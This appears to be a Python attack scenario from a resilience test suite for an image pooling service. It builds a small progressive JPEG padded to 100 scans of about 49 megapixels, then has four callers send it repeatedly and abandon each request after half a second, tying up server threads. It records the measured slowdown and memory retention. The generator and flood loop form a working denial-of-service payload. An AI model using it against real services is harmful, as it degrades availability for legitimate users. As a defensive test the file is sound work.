"""Small images that take seconds to decode, from callers that leave early.

The attacker sends a progressive JPEG of 0.3 MB whose 100 scans each cover 50 megapixels, four at a time, and gives up
after half a second. Each of them occupied a thread for 8 seconds, also after its caller had left.
"""

import asyncio
import time
from collections import Counter
from io import BytesIO

from PIL import Image

from poolservice_client import AsyncPoolClient, GlobalAvgPool2d
from poolservice_client.errors import PoolError
from target import Target

FLAGS: tuple[str, ...] = ()
BEFORE = (
    "good callers fell from 170 to 45 calls/s and one failed, health took 108 ms, 562 MB were kept after the attack"
)

_CALLERS = 4
_SIDE = 7000


def hostile_jpeg() -> bytes:
    """Return a progressive JPEG of 49 megapixels with 100 scans."""
    file = BytesIO()
    Image.new("RGB", (_SIDE, _SIDE), (200, 30, 7)).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    last, end = data.rindex(b"\xff\xda"), data.rindex(b"\xff\xd9")
    return data[:end] + data[last:end] * (100 - data.count(b"\xff\xda")) + data[end:]


async def attack(target: Target, seconds: float) -> str:
    """Send images that take long to decode, and leave early."""
    data = hostile_jpeg()
    outcomes: Counter[str] = Counter()
    end = time.monotonic() + seconds

    async def call(client: AsyncPoolClient) -> None:
        while time.monotonic() < end:
            try:
                await client.pool(data, GlobalAvgPool2d(), timeout=0.5)
                outcomes["ok"] += 1
            except PoolError as error:
                outcomes[type(error).__name__] += 1
                await asyncio.sleep(0.01)

    async with AsyncPoolClient(target.address, retries=None) as client:
        await asyncio.gather(*(call(client) for _ in range(_CALLERS)))
    return ", ".join(f"{count} {name}" for name, count in outcomes.most_common())
